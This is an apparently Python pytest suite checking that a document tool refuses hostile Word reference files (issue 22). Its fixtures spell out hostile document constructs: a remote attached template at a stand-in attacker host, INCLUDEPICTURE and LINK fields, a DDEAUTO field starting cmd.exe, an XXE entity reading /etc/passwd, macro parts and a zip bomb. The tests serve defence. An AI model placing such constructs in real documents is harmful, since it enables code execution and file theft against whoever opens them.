"""A set's reference document cannot plant remote content in the Word files (issue 22)."""

from __future__ import annotations

import io
import shutil
import zipfile

import pytest
from helpers import CASES, ROOT, apply_patch, read_yaml, write_case

from dossier.diagnostics import DossierError
from dossier.documenten.referentie import check_generated, check_reference
from dossier.documenten.sjabloonsets import resolve
from dossier.opdrachten.bouw import build_file
from dossier.uitvoer.referentie import reference_bytes

# The base set ships no reference document: dossier generates it from the house style.
BASE_REFERENCE = reference_bytes(resolve(None).huisstijl)
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _parts() -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(BASE_REFERENCE)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def _replace(parts: dict[str, bytes], name: str, old: str, new: str) -> dict[str, bytes]:
    text = parts[name].decode("utf-8")
    assert old in text, (name, old)
    return {**parts, name: text.replace(old, new, 1).encode("utf-8")}


def _add_relationship(parts, rels: str, xml: str) -> dict[str, bytes]:
    if rels not in parts:
        parts = {**parts, rels: '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'.encode()}
    return _replace(parts, rels, "</Relationships>", xml + "</Relationships>")


def _field(instruction: str) -> str:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in instruction.split("|"))
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def _header_with(xml: str) -> dict[str, bytes]:
    return _replace(_parts(), "word/header1.xml", "</w:p>", xml + "</w:p>")


CASES_HOSTILE = {
    "remote attached template": (
        _add_relationship(_replace(_parts(), "word/settings.xml", "</w:settings>", '<w:attachedTemplate r:id="rIdT"/></w:settings>'),
                          "word/_rels/settings.xml.rels",
                          f'<Relationship Id="rIdT" Type="{REL}/attachedTemplate" Target="http://aanvaller.example/t.dotm" TargetMode="External"/>'),
        ("D425", "D426"),
    ),
    "attached template element": (
        _replace(_parts(), "word/settings.xml", "</w:settings>", '<w:attachedTemplate r:id="rId99"/></w:settings>'),
        ("D426",),
    ),
    "external image": (
        _add_relationship(_parts(), "word/_rels/document.xml.rels",
                          f'<Relationship Id="rIdImg" Type="{REL}/image" Target="\\\\server\\share\\x.png" TargetMode="External"/>'),
        ("D425",),
    ),
    "external hyperlink": (
        _add_relationship(_parts(), "word/_rels/footnotes.xml.rels",
                          f'<Relationship Id="rIdH" Type="{REL}/hyperlink" Target="http://aanvaller.example/" TargetMode="external"/>'),
        ("D425",),
    ),
    "includepicture field": (_header_with(_field(' INCLUDEPICTURE "http://aanvaller.example/p.png" \\d ')), ("D427",)),
    "field split over runs": (_header_with(_field(" INCLUDE|PICTURE|  \"\\\\\\\\server\\\\x.png\" ")), ("D427",)),
    "includetext lower case": (_header_with(_field(' includetext "c:/geheim.docx" ')), ("D427",)),
    "ddeauto field": (_header_with(_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')), ("D427",)),
    "link field nested in IF": (_header_with(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1 = 1 </w:instrText></w:r>'
        + _field(' LINK Excel.Sheet "x.xlsx" ') + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'), ("D427",)),
    "simple field": (_replace(_parts(), "word/footer1.xml", "</w:p>", '<w:fldSimple w:instr=" IMPORT http://a.example/x.wmf "/></w:p>'), ("D427",)),
    "dtd with external entity": (
        {**_parts(), "word/header1.xml": (
            '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE w:hdr [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            f'<w:hdr {W}><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:hdr>').encode()},
        ("D428",),
    ),
    "macros": ({**_parts(), "word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}, ("D429",)),
    "macro content type": (
        _replace(_parts(), "[Content_Types].xml", "</Types>",
                 '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'),
        ("D429",),
    ),
    "ill-formed part": ({**_parts(), "word/header1.xml": b'<?xml version="1.0"?><w:hdr><w:p></w:hdr>'}, ("D430",)),
    "many entries": ({**_parts(), **{f"word/media/x{i}.bin": b"" for i in range(1001)}}, ("D424",)),
}


@pytest.fixture()
def sets(tmp_path, monkeypatch):
    root = tmp_path / "sjablonen"
    shutil.copytree(ROOT / "sjablonen" / "basis", root / "basis")
    (root / "kwaad" / "huisstijl").mkdir(parents=True)
    monkeypatch.setenv("DOSSIER_SJABLONEN", str(root))
    return root


def _build(tmp_path, formats=("docx",)):
    data = apply_patch(read_yaml(CASES / "basis.yaml"), {"aanbesteding.sjabloonset": "kwaad"})
    return build_file(str(write_case(tmp_path, "gemeente", data)), tmp_path / "uit", list(formats), "concept")


def test_generated_reference_passes(tmp_path):
    (tmp_path / "referentie.docx").write_bytes(BASE_REFERENCE)
    check_reference(tmp_path / "referentie.docx")
    for name, data in _parts().items():
        assert b'TargetMode="External"' not in data, name


@pytest.mark.parametrize("case", sorted(CASES_HOSTILE))
def test_hostile_reference_is_refused(tmp_path, sets, case):
    parts, codes = CASES_HOSTILE[case]
    (sets / "kwaad" / "huisstijl" / "referentie.docx").write_bytes(_zip(parts))
    code, findings = _build(tmp_path)
    assert code == 1, [d.to_text() for d in findings]
    assert findings[0].code in codes, findings[0].to_text()
    assert "kwaad/huisstijl/referentie.docx" in findings[0].message
    assert not (tmp_path / "uit").exists()


def test_zip_bomb_and_not_a_zip(tmp_path, sets):
    reference = sets / "kwaad" / "huisstijl" / "referentie.docx"
    reference.write_bytes(_zip({**_parts(), "word/media/nul.bin": bytes(70 * 1024 * 1024)}))
    assert reference.stat().st_size < 1024 * 1024
    code, findings = _build(tmp_path, ("md",))  # the set's reference is checked for every build
    assert code == 1 and findings[0].code == "D424"
    reference.write_bytes(b"dit is geen zip")
    code, findings = _build(tmp_path)
    assert code == 1 and findings[0].code == "D423"
    assert not (tmp_path / "uit").exists()


def test_a_clean_copy_of_the_reference_in_a_set_builds(tmp_path, sets):
    (sets / "kwaad" / "huisstijl" / "referentie.docx").write_bytes(_zip(_header_with(_field(" PAGE "))))
    code, findings = _build(tmp_path)
    assert code == 0, [d.to_text() for d in findings]


def test_generated_word_file_is_parsed_strictly():
    check_generated(BASE_REFERENCE, "referentie.docx")
    broken = _zip({**_parts(), "word/header1.xml": b"<w:hdr><w:p></w:hdr>"})
    with pytest.raises(DossierError) as caught:
        check_generated(broken, "aanbestedingsleidraad.docx")
    [finding] = caught.value.diagnostics
    assert finding.code == "D431" and "word/header1.xml" in finding.message
    with_dtd = _zip({**_parts(), "word/header1.xml": b'<?xml version="1.0"?><!DOCTYPE x []><x/>'})
    with pytest.raises(DossierError):
        check_generated(with_dtd, "aanbestedingsleidraad.docx")
